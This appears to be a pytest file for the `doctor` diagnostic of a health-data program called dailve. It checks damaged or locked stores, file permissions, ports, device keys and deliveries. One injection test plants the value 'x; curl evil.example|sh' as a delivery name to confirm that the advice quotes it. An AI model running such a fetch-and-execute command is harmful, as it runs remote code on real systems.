"""`dailve doctor`: everything that is wrong is found, named and left as it is."""

import json
import os
import shlex
import shutil
import socket
import sqlite3
import subprocess
import sys
import time

import pytest

from program import DAILVE, Server, dailve, dailve_json
from test_ingest import read_all, send, token

SUBJECTS = {"folder", "disk", "store", "schema", "content", "privacy", "zones", "changes", "port", "delivery-port", "key", "device",
            "deliveries", "uploads", "backups", "version", "access"}
BODY = {"data": {"metrics": [{"name": "step_count", "units": "count", "data": [
    {"date": "2026-11-21 08:00:00 +0100", "qty": 5, "source": "Watch"}]}]}}


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def doctor(store, *arguments, code=None, port=None):
    """Returns the doctor's document, and checks that the text says the same and that both leave everything as it was."""
    before = state(store)
    words = ["doctor", "--store", store, "--port", port or free_port(), *arguments]
    result = dailve(*words, "--json", check=False)
    assert result.returncode in (0, 3), result.stderr
    document = json.loads(result.stdout)
    assert (result.returncode == 0) == document["isWell"] == all(finding["isWell"] for finding in document["findings"])
    assert set(document) == {"isWell", "findings", "devices", "metrics"}
    for finding in document["findings"]:
        assert finding["subject"] in SUBJECTS and finding["text"]
        assert finding["isWell"] or finding["advice"].endswith("."), finding
    text = dailve(*words, check=False)
    assert text.returncode == result.returncode and text.stdout
    assert state(store) == before, "it changes nothing"
    if code is not None:
        assert result.returncode == code, document
    return document


def state(folder):
    if not folder.exists() or not folder.is_dir():
        return None
    return {str(path.relative_to(folder)): (path.stat().st_mode, path.read_bytes() if path.is_file() else None)
            for path in folder.rglob("*") if not path.name.endswith("-shm")}


def wrong(document, subject=None):
    return [finding for finding in document["findings"] if not finding["isWell"] and subject in (None, finding["subject"])]


@pytest.fixture
def store(small_store, tmp_path):
    shutil.copytree(small_store, tmp_path / "store")
    return tmp_path / "store"


@pytest.fixture(scope="module")
def small_store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("small")
    (folder / "export.xml").write_text(
        "<HealthData><ExportDate value='2026-11-21 08:00:00 +0000'/>"
        '<Record type="HKQuantityTypeIdentifierStepCount" sourceName="Phone" unit="count" startDate="2026-11-20 10:00:00 +0000" '
        'endDate="2026-11-20 10:30:00 +0000" value="100"/></HealthData>')
    dailve("import", folder / "export.xml", "--store", folder / "store", "--zone", "Europe/Berlin")
    dailve("backup", "--store", folder / "store")
    return folder / "store"


def test_a_healthy_store_has_no_problems(store):
    document = doctor(store, code=0)
    found = {finding["subject"] for finding in document["findings"]}
    assert found >= {"folder", "disk", "store", "schema", "content", "privacy", "zones", "changes", "port", "key", "deliveries", "uploads"}
    assert document["devices"] == [] and document["metrics"] == []


def test_a_missing_store_is_a_finding_and_is_not_created(tmp_path):
    document = doctor(tmp_path / "none", code=3)
    assert wrong(document, "folder") and not (tmp_path / "none").exists()
    (tmp_path / "empty").mkdir(mode=0o700)
    assert wrong(doctor(tmp_path / "empty", code=3), "store")
    assert list((tmp_path / "empty").iterdir()) == []
    (tmp_path / "file").write_text("dear")
    assert wrong(doctor(tmp_path / "file", code=3), "folder")


@pytest.mark.parametrize("change, subject, words", [
    ("PRAGMA user_version = 1000", "store", "newer version"),
    # Migration 24 made no table, so only its entry is missing.
    ("DELETE FROM grdb_migrations WHERE identifier LIKE '24 %'; PRAGMA user_version = 23", "schema", "this program writes"),
    ("PRAGMA application_id = 7", "store", "is not a store of dailve"),
], ids=["newer", "older", "foreign"])
def test_a_store_of_another_version_is_a_finding(store, change, subject, words):
    with sqlite3.connect(store / "health.sqlite") as database:
        database.executescript(change)
    database.close()
    found = wrong(doctor(store, code=3), subject)
    assert words in found[0]["text"]


@pytest.mark.parametrize("content", [b"", b"x" * 5000, "cut", "holes"])
def test_a_damaged_store_is_a_finding(store, content):
    path = store / "health.sqlite"
    whole = path.read_bytes()
    if content == "cut":
        content = whole[: len(whole) // 2]
    if content == "holes":
        content = whole[:8192] + os.urandom(8192 * 6) + whole[8192 * 7:]
    path.write_bytes(content)
    assert wrong(doctor(store, code=3))


HOLD = """
import sqlite3, sys
database = sqlite3.connect(sys.argv[1], isolation_level=None)
for sql in ("PRAGMA locking_mode = EXCLUSIVE", "CREATE TABLE note (text)", "DROP TABLE note", "BEGIN EXCLUSIVE"):
    database.execute(sql)
print("held", flush=True)
sys.stdin.read()
"""


def test_a_store_locked_by_another_program_is_a_finding(store):
    # Another process holds the file, because reading it in this one would release its locks.
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD, store / "health.sqlite"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline() == "held\n"
        assert "has locked the store" in wrong(doctor(store, code=3), "store")[0]["text"]
    finally:
        holder.communicate("")


def test_a_lost_file_of_sign_in_is_a_finding(store):
    (store / "directory.sqlite").unlink()
    found = wrong(doctor(store, code=3), "access")
    assert "directory.sqlite" in found[0]["text"] and "users reset" in found[0]["advice"]
    # Opening puts an empty one in its place, which admits nobody; the loss does not go unnoticed.
    dailve("stats", "--store", store)
    assert "was missing" in wrong(doctor(store, code=3), "access")[0]["text"]
    dailve("users", "reset", "--store", store)
    assert not wrong(doctor(store), "access")


def test_the_address_that_was_chosen_for_devices_is_checked(store):
    port = free_port()
    kept = store / "device-address.json"
    kept.touch(mode=0o600)

    def found():
        (finding,) = [finding for finding in doctor(store)["findings"] if finding["subject"] == "delivery-port"]
        return finding

    kept.write_text(json.dumps({"isOn": False, "host": "127.0.0.1", "port": port}))
    assert found()["isWell"] and "switched off" in found()["text"]
    kept.write_text(json.dumps({"isOn": True, "host": "127.0.0.1", "port": port}))
    assert found()["isWell"] and f"127.0.0.1:{port} is chosen" in found()["text"]
    with socket.socket() as other:
        other.bind(("127.0.0.1", port))
        other.listen()
        assert not found()["isWell"] and "another program" in found()["text"]
    server = Server(store)
    try:
        assert found()["isWell"] and f"Devices can send to http://127.0.0.1:{port}" in found()["text"]
    finally:
        server.stop()
    kept.write_text("{")
    assert not found()["isWell"] and "is damaged" in found()["text"] and "Address for devices" in found()["advice"]


def test_files_readable_by_others_are_a_finding(store):
    (store / "health.sqlite").chmod(0o644)
    assert "health.sqlite" in wrong(doctor(store, code=3), "privacy")[0]["text"]


def test_a_full_disk_is_a_finding(small_store, tmp_path):
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=30m,mode=700", "none", disk], capture_output=True).returncode:
        pytest.skip("no disk of our own can be mounted here")
    try:
        shutil.copytree(small_store, disk / "store")
        with open(disk / "filler", "wb", buffering=0) as filler:
            try:
                while True:
                    filler.write(b"0" * 4096)
            except OSError:
                pass
        assert wrong(doctor(disk / "store", code=3), "disk")
    finally:
        subprocess.run(["umount", disk], check=True)


def test_left_over_and_unreadable_files_are_named(store):
    for name in ("uploads", "deliveries"):
        (store / name).mkdir(mode=0o700)
    (store / "uploads" / "upload-1").write_bytes(b"0" * 1000)
    (store / "deliveries" / "20261101T080000.000Z-00000001.0").write_bytes(b"no head")
    (store / "deliveries" / "20261101T080000.000Z-00000002.0").write_bytes(
        b'{"head":{"received":"2026-11-01T08:00:00Z","token":"a","sender":"iPhone","headers":{}}}\n')
    for path in [store / "uploads" / "upload-1", *(store / "deliveries").iterdir()]:
        path.chmod(0o600)
    document = doctor(store, code=3)
    assert wrong(document, "uploads")
    waits, damaged = wrong(document, "deliveries")
    assert "1 delivery is waiting" in waits["text"] and "serve" in waits["advice"]
    assert "00000001.0" in damaged["text"]


def test_an_unreadable_delivery_is_named(store):
    with sqlite3.connect(store / "health.sqlite") as database:
        database.execute(
            "INSERT INTO delivery (id, received, token, headers, size, packed, fingerprint, batch, version, unknown, problem) VALUES "
            "('20261101T080000.000Z-00000001', 1793520000, 'a', ?, 5, 5, 'f', NULL, 1, 1, 'The program stopped.')",
            ('{"received":"2026-11-01T08:00:00Z","token":"a","sender":"iPhone","headers":{}}',))
    database.close()
    found = wrong(doctor(store, code=3), "deliveries")
    assert "20261101T080000.000Z-00000001" in found[0]["text"] and "replay" in found[0]["advice"]


def test_the_name_of_a_delivery_injects_no_command(store):
    """Another machine chose the name of the delivery, so it must not run commands of its own."""
    name = "x; curl evil.example|sh"
    with sqlite3.connect(store / "health.sqlite") as database:
        database.execute(
            "INSERT INTO delivery (id, received, token, headers, size, packed, fingerprint, batch, version, unknown, problem) VALUES "
            "(?, 1793520000, 'a', ?, 5, 5, 'f', NULL, 1, 1, 'The program stopped.')",
            (name, '{"received":"2026-11-01T08:00:00Z","token":"a","sender":"iPhone","headers":{}}'))
    database.close()
    advice = wrong(doctor(store, code=3), "deliveries")[0]["advice"]
    assert f"deliveries replay {shlex.quote(name)} " in advice


def test_keys_and_devices(store):
    dailve("tokens", "add", "New phone", "--store", store)
    dailve("tokens", "add", "Short", "--days", 3, "--store", store)
    gone = dailve_json("tokens", "add", "Withdrawn", "--store", store)["id"]
    dailve("tokens", "revoke", gone, "--store", store)
    found = wrong(doctor(store, code=3), "key")
    assert len(found) == 1 and found[0]["text"].startswith("Short")
    now = int(time.time())
    with sqlite3.connect(store / "directory.sqlite") as database:
        database.execute("UPDATE device_token SET created = ?, expires = NULL", (now - 5 * 86_400,))
        database.execute("UPDATE device_token SET expires = ? WHERE name = 'Short'", (now - 60,))
    database.close()
    texts = sorted(finding["text"] for finding in wrong(doctor(store, code=3), "key"))
    assert len(texts) == 2 and "never used" in texts[0] and "expired" in texts[1]
    states = {device["name"]: device["state"] for device in doctor(store)["devices"]}
    assert states == {"New phone": "neverSent", "Short": "expired", "Withdrawn": "revoked"}


def test_a_silent_phone_and_an_empty_delivery(store):
    server = Server(store)
    try:
        secret = token(store)
        assert send(server, secret, BODY)[0] == 200
        read_all(store)
        document = doctor(store, port=server.port, code=0)
        assert [metric["type"] for metric in document["metrics"]] == ["HKQuantityTypeIdentifierStepCount"]
        assert document["metrics"][0]["newest"].startswith("2026-11-21T08:00")
        assert document["devices"][0]["lastWithRecords"] == document["devices"][0]["lastReceived"]
        assert send(server, secret, {"data": {"metrics": []}})[0] == 200
        read_all(store)
        assert "it was empty" in wrong(doctor(store, port=server.port, code=3), "device")[0]["text"]
    finally:
        server.stop()
    with sqlite3.connect(store / "health.sqlite") as database:
        database.execute("UPDATE delivery SET received = received - 400000")
    database.close()
    assert "silent since" in wrong(doctor(store, code=3), "device")[0]["text"]


def test_ports(store, tmp_path):
    ingest = free_port()
    assert not wrong(doctor(store, "--ingest-listen", f"127.0.0.1:{ingest}", code=0))
    with socket.create_server(("127.0.0.1", 0)) as other:
        taken = other.getsockname()[1]
        found = wrong(doctor(store, "--ingest-listen", f"127.0.0.1:{taken}", port=taken, code=3))
        assert [finding["subject"] for finding in found] == ["port", "delivery-port"]
        assert all("Another program" in finding["text"] for finding in found)
    assert "does not have" in wrong(doctor(store, "--ingest-listen", "192.0.2.1:8421", code=3), "delivery-port")[0]["text"]
    # A zone makes no URL by itself. The address does not exist, or the port is free; nothing listens there in either case.
    zoned = wrong(doctor(store, "--ingest-listen", f"[fe80::1%lo]:{ingest}", code=None), "delivery-port")
    assert not any("Another program" in finding["text"] for finding in zoned)
    server = Server(store)
    try:
        assert "answers" in [f for f in doctor(store, port=server.port, code=0)["findings"] if f["subject"] == "port"][0]["text"]
        # The store is served, but not at the port that the doctor asks.
        assert wrong(doctor(store, code=3), "port")
        # The server's own address takes deliveries too.
        assert not wrong(doctor(store, "--ingest-listen", f"127.0.0.1:{server.port}", port=server.port, code=0))
        shutil.copytree(store, tmp_path / "other", ignore=shutil.ignore_patterns("*-wal", "*-shm"))
        assert "another store" in wrong(doctor(tmp_path / "other", port=server.port, code=3), "port")[0]["text"]
    finally:
        server.stop()


def test_wrong_usage_exits_with_2(store):
    for words in (["--port", "0"], ["--host", "0.0.0.0"], ["--ingest-listen", "nowhere"]):
        assert subprocess.run([DAILVE, "doctor", "--store", store, *words], capture_output=True).returncode == 2
